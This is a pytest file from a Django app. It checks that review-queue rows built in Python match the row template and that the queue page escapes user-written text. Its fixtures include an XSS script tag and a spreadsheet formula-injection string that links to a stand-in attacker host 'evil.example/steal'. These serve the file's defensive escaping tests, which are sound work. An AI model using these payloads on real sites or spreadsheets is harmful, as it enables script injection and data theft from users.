"""The review queue's rows are built in Python (approvals_tags.queue_rows): the same bytes as the row template,
whatever the text and the CSRF token."""

from __future__ import annotations

import pytest
from django.template.loader import render_to_string
from django.urls import reverse

from approvals.templatetags.approvals_tags import _csrf_input, queue_row
from approvals.tests.factories import submitted
from socialgov.pagekit import html_text

SCRIPT = "<script>alert('x')</script>"
HOSTILE = f'=HYPERLINK("http://evil.example/steal","Click") {SCRIPT} & \'"'


def row(**changes):
    s = {
        "pk": 7,
        "post_id": 3,
        "name": "Department review",
        "required": 1,
        "approvals": 0,
        "summary": "Hello",
        "author": "Ann Author",
        "channel": "Brand on X",
        "platform": "X",
        "department": "Marketing",
        "revision": 2,
        "warnings": [],
        "overdue": False,
        "due_soon": False,
        "due": "2026-11-22 10:00",
        "waiting": "3 hours",
        "post_url": "/posts/3/",
        "decide_url": "/posts/stages/7/decide/",
    }
    s.update(changes)
    return s


ROWS = {
    "plain": row(),
    "hostile everywhere": row(
        name=HOSTILE,
        summary=HOSTILE,
        author=HOSTILE,
        channel=HOSTILE,
        platform=HOSTILE,
        department=HOSTILE,
        waiting=HOSTILE,
        due=HOSTILE,
        post_url=f'/posts/3/?"{SCRIPT}',
        decide_url=f'/x/"{SCRIPT}',
        warnings=[{"severity": "warn", "message": HOSTILE}, {"severity": "warn", "message": "Second"}],
    ),
    "several approvals, overdue": row(required=3, approvals=1, overdue=True),
    "due soon": row(due_soon=True),
    "a warning without a message, no revision, no department": row(
        warnings=[{"severity": "warn"}], revision=None, department=None
    ),
    # the page is kept whole and formatted again on each view (socialgov.pagekit.kept_page): braces stay text
    "braces in the text": row(
        summary="{here} {0} }{ {{csrf}}",
        name="{waiting}",
        author="{",
        channel="}",
        warnings=[{"severity": "warn", "message": "{badge}"}],
        waiting="{due}",
        due="{x}",
    ),
}
TOKENS = {"a token": 'tok"en<&>', "no token": None, "not provided": "NOTPROVIDED"}
HERE = f'/posts/queue/?stage="{SCRIPT}&page=2'


@pytest.mark.parametrize("token", list(TOKENS))
@pytest.mark.parametrize("case", list(ROWS))
def test_a_row_is_what_the_row_template_renders(case, token):
    s = ROWS[case]
    ctx = {"s": s, "here": HERE}
    if TOKENS[token] is not None:
        ctx["csrf_token"] = TOKENS[token]
    expected = render_to_string("approvals/_queue_row.html", ctx).strip()
    assert queue_row(s, html_text(HERE), _csrf_input(TOKENS[token])) == expected


@pytest.mark.django_db
def test_the_queue_page_escapes_what_people_wrote(client, employee, channel, reviewer):
    submitted(employee, channel, body=f"Look {SCRIPT}")
    client.force_login(reviewer)
    page = client.get(reverse("approvals:queue")).content.decode()
    assert SCRIPT not in page
    assert "Look &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert page.count("data-queue-row") == 1  # the whole table, whitespace included: test_queue_rows.py
    assert 'name="csrfmiddlewaretoken"' in page
